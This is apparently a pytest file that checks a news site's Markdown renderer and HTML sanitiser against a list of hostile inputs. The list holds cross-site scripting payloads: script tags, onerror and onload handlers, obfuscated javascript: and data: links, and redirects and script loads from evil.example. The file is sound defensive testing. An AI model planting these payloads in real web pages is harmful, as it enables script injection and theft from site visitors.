"""No markup a writer types can run in a reader's browser: a corpus of hostile Markdown and HTML,
checked by parsing what comes out (not by searching text: "onerror" shown as text is harmless)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from citizen_journalism.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](  javascript:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](&#x6A;avascript&#x3A;alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![foto](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![foto](https://pelacak.example/piksel.gif)",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<p onclick=alert(1)>klik</p>",
    "<b><i>tidak ditutup",
    "<!-- <script>alert(1)</script> -->",
    "[a](<javascript:alert(1)>)",
    '[a](https://ok.example "judul" onmouseover="alert(1)")',
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "[x]: javascript:alert(1)\n\n[klik][x]",
    "`<script>alert(1)</script>` dan ```\n<script>alert(2)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="' + "".join(f"&#{ord(c):07d}" for c in "javascript:") + 'alert(1)">x</a>',  # padded entities
]


class _Walker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _elements(html: str):
    walker = _Walker()
    walker.feed(html)
    walker.close()
    return walker.tags


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markup_comes_out_harmless(source):
    for html in (render_markdown(source), sanitise(source)):
        for tag, attrs in _elements(html):
            assert tag in ALLOWED_TAGS, (source, html)
            names = {name for name, _value in attrs}
            assert names <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (source, html)
            assert not any(name.startswith("on") for name in names)
            href = dict(attrs).get("href")
            if href is not None:
                scheme = href.split(":", 1)[0].strip().lower() if ":" in href else ""
                assert scheme in ("http", "https", "mailto"), (source, html)
                assert dict(attrs).get("rel") == "nofollow noopener"


def test_ordinary_markdown_is_kept():
    html = render_markdown(
        "# Judul\n\nTeks **tebal**, *miring*, ~~coret~~.\n\n- satu\n- dua\n\n"
        "> kutipan\n\n[KOMTIK](https://komtik.example/) dan [surel](mailto:redaksi@komtik.example)"
    )
    assert "<h2>Judul</h2>" in html  # a level-1 heading is the page's, the writer's becomes level 2
    assert "<strong>tebal</strong>" in html and "<em>miring</em>" in html and "<s>coret</s>" in html
    assert "<li>satu</li>" in html and "<blockquote>" in html
    assert '<a href="https://komtik.example/" rel="nofollow noopener">KOMTIK</a>' in html
    assert '<a href="mailto:redaksi@komtik.example" rel="nofollow noopener">surel</a>' in html


def test_raw_html_is_shown_as_text_not_dropped_silently():
    assert render_markdown("<b>halo</b>") == "<p>&lt;b&gt;halo&lt;/b&gt;</p>\n"
